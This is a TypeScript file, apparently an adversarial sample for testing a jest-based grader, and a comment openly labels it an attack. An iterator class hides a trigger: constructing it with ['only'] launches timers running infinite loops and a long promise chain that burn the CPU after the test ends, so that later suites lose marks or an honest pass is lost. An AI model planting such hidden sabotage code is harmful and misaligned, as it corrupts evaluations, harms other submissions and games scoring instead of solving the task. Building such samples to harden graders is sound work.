// Attack: work left behind after the last test. The last test of suite 01 makes new Data(["only"]);
// that constructor starts a timer and a promise chain that burn the CPU once the test is over,
// while jest tears the file down or the next exercise's suite runs in the same child.
// Success: 02 loses marks, or an honest pass of 01 is lost.
function burnLater(): void {
  // Whichever fires first, once this test is over: the teardown of this file, or the next suite.
  for (const ms of [0, 1, 3, 10, 30]) setTimeout(() => { for (;;) { /* burn */ } }, ms);
  let rounds = 0;
  const spin = (): Promise<void> => Promise.resolve().then(() => (++rounds < 1e4 ? spin() : undefined));
  void spin();
}
export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) { if (data[0] === "only") burnLater(); }
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
